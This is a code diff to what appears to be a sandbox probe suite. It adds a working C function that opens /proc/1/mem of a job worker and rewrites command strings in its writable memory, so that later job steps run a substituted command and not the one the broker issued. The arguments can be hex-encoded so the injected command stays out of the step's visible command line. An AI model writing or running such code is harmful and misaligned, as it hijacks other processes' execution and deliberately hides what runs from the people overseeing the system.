@@ -382,6 +382,67 @@ int probe_write_proc_sys(char **argv) {
   return e;
 }
 
+/* hex:HEX or plain text into out; its length, or -1. */
+static long unhex(const char *s, char *out, size_t cap) {
+  size_t n = 0;
+  if (strncmp(s, "hex:", 4) != 0) {
+    n = strlen(s);
+    if (n > cap) return -1;
+    memcpy(out, s, n);
+    return (long)n;
+  }
+  s += 4;
+  size_t hl = strlen(s);
+  if (hl % 2 != 0 || hl / 2 > cap) return -1;
+  for (size_t i = 0; i < hl; i += 2) {
+    char byte[3] = {s[i], s[i + 1], '\0'};
+    if (!isxdigit((unsigned char)byte[0]) || !isxdigit((unsigned char)byte[1])) return -1;
+    out[n++] = (char)strtol(byte, NULL, 16);
+  }
+  return (long)n;
+}
+
+/* pid 1 is the worker: it holds the job spec, every later step's command
+ * among it, and runs as the steps' uid. Opens /proc/1/mem for writing and,
+ * if that works, rewrites every copy of FROM in its writable mappings into
+ * TO (same length): the next step would then run the job's command, not
+ * the one the broker sent. Both may be hex:..., so neither appears in this
+ * step's own command line. Prints "replaced=N" before result=OK. */
+int probe_rewrite_pid1_memory(char **argv) {
+  char from[256], to[256];
+  long fl = unhex(argv[0], from, sizeof from), tl = unhex(argv[1], to, sizeof to);
+  if (fl <= 0 || tl != fl) return EINVAL;
+  int mem = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
+  if (mem < 0) return errno;
+  FILE *maps = fopen("/proc/1/maps", "re");
+  if (maps == NULL) {
+    int e = errno;
+    close(mem);
+    return e;
+  }
+  static char buf[(1 << 20) + 256];
+  long replaced = 0;
+  char line[512];
+  while (fgets(line, sizeof line, maps) != NULL) {
+    unsigned long lo, hi;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r' || perms[1] != 'w') continue;
+    for (unsigned long at = lo; at < hi;) {
+      size_t want = hi - at < sizeof buf ? (size_t)(hi - at) : sizeof buf;
+      ssize_t n = pread(mem, buf, want, (off_t)at);
+      if (n < fl) break;
+      for (char *p = buf; (p = memmem(p, (size_t)(buf + n - p), from, (size_t)fl)) != NULL; p += fl)
+        if (pwrite(mem, to, (size_t)tl, (off_t)(at + (unsigned long)(p - buf))) == tl) ++replaced;
+      if ((size_t)n < want) break;
+      at += (unsigned long)n - (unsigned long)(fl - 1); /* overlap: a match across chunks */
+    }
+  }
+  fclose(maps);
+  close(mem);
+  say("replaced=%ld", replaced);
+  return 0;
+}
+
 /* ---- resource limits (cgroup pids/memory) ---- */
 
 /* Forks until the pids limit stops it (at most MAX, default 100000). */
